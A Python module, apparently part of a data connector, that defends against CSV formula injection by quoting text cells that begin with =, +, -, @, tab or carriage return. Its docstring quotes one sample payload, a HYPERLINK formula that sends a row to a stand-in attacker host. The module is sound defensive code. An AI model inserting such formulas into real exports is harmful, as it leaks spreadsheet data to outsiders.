"""CSV cells that a spreadsheet would run as a formula, made inert (CSV/formula injection).

A meeting title is chosen by whoever sends the invite. Excel, LibreOffice and Google Sheets read a
cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return before
one of those) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "open")`` leaks the row when
clicked. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a
cell with a single quote, which spreadsheets show as text and do not store; a program reading the
CSV sees the quote. Only text is touched: a number (``-3``) is written by the CSV writer from a
numeric column and is never neutralised.

One place for the rule, used by every CSV the connector writes (extract output, load results).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, TypeVar

from .deferred import deferred

if TYPE_CHECKING:
    import pyarrow as pa
    import pyarrow.compute as pc
else:
    pa = deferred("pyarrow")
    pc = deferred("pyarrow.compute")

__all__ = ["FORMULA_PREFIXES", "neutralise_array", "neutralise_cell"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = "^[=+\\-@\\t\\r]"  # the same characters, as the RE2 pattern Arrow's kernels take

_A = TypeVar("_A", "pa.Array", "pa.ChunkedArray")


def neutralise_cell(text: str) -> str:
    """``text`` with a ``'`` in front when a spreadsheet would read it as a formula; otherwise unchanged."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def neutralise_array(values: _A) -> _A:
    """:func:`neutralise_cell` over a string array (vectorised; nulls stay null). Other types come back as is."""
    if not (pa.types.is_string(values.type) or pa.types.is_large_string(values.type)):
        return values
    risky = pc.match_substring_regex(values, _PATTERN)
    if not pc.any(risky).as_py():
        return values
    quoted = pc.binary_join_element_wise(pa.scalar("'", values.type), values, pa.scalar("", values.type))
    return pc.if_else(risky, quoted, values)
